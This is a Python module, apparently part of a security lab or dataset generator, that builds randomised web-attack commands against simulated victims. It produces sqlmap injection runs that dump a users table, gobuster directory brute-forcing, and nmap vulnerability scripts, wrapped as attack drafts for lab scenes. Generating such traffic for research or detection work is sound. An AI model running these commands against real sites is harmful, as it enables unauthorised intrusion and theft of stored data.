# SPDX-License-Identifier: Apache-2.0
"""Attacks on the web application: sqlmap on its injectable page, gobuster for hidden folders, nmap's web scripts."""

from __future__ import annotations

from random import Random

from lab.scenarios.attack.targets import ip_version, victim_with
from lab.scenarios.scenario import TCP, Attack, AttackDraft, Scene

_FOLDERS = (
    "admin",
    "backup",
    "old",
    "test",
    "dev",
    "api",
    "login",
    "images",
    "static",
    "config",
    "db",
    "private",
    "upload",
    "tmp",
    "cgi-bin",
)


def _where(scene: Scene, chance: Random, path: str) -> tuple[str, tuple] | None:
    victim = victim_with(scene, chance, "webapp")
    if victim is None:
        return None
    tls, version = chance.random() < 0.35, ip_version(chance)
    port = scene.network.tls_port if tls else scene.network.web_port
    return scene.url(victim, tls, path, version), (scene.leg(victim, version, TCP, port),)


def sqlmap(scene: Scene, chance: Random) -> AttackDraft | None:
    where = _where(scene, chance, f"/app/item?id={chance.randint(1, 300)}")
    if where is None:
        return None
    url, legs = where
    technique = chance.choice(("B", "E", "U", "BEU", "BT"))
    delay = chance.choice((0, 0, 0.2, 0.5))
    goal = chance.choice(("--banner", "--tables", "--dump -T users", "--current-user"))
    alive = chance.choice(("", "--keep-alive"))
    command = (
        f"sqlmap -u '{url}' --batch --flush-session --disable-coloring --dbms sqlite --technique {technique} --level {chance.randint(1, 3)} "
        f"--risk {chance.randint(1, 3)} --threads {chance.choice((1, 2, 5))} {f'--delay {delay}' if delay else alive} {goal} --output-dir /tmp/sqlmap"
    )
    return AttackDraft("web_attack", "sqlmap", f"technique={technique}; delay={delay}; {goal}", command, 50, legs)


def gobuster(scene: Scene, chance: Random) -> AttackDraft | None:
    where = _where(scene, chance, chance.choice(("/", "/app/")))
    if where is None:
        return None
    url, legs = where
    count = chance.randint(60, 250) if scene.gentle else chance.randint(100, 1500)
    threads, delay = chance.choice((1, 4, 10, 20)), chance.choice((0, 0, 0, 50, 200))
    names = " ".join(chance.sample(_FOLDERS, len(_FOLDERS)))
    words = f"(printf '%s\\n' {names}; seq -f 'page%g' {count}) > /tmp/folders$$"
    command = f"{words}; gobuster dir -q -z -k -u {url} -w /tmp/folders$$ -t {threads} {f'--delay {delay}ms' if delay else ''} -b 404,403"
    return AttackDraft(
        "web_attack", "gobuster", f"dir; words={count}; threads={threads}; delay={delay}ms", command, 45, legs
    )


def nmap(scene: Scene, chance: Random) -> AttackDraft | None:
    where = _where(scene, chance, "/")
    if where is None:
        return None
    _, legs = where
    six = "-6" if ":" in legs[0].victim else ""
    script = chance.choice(("http-enum", "http-sql-injection", "http-vuln-*"))
    command = f"nmap {six} -n -Pn -p {legs[0].victim_port} --script '+{script}' {legs[0].victim}"
    return AttackDraft("web_attack", "nmap", script, command, 45, legs)


ATTACKS = (Attack("sqlmap", sqlmap, weight=3), Attack("gobuster", gobuster, weight=3), Attack("nmap-web", nmap))
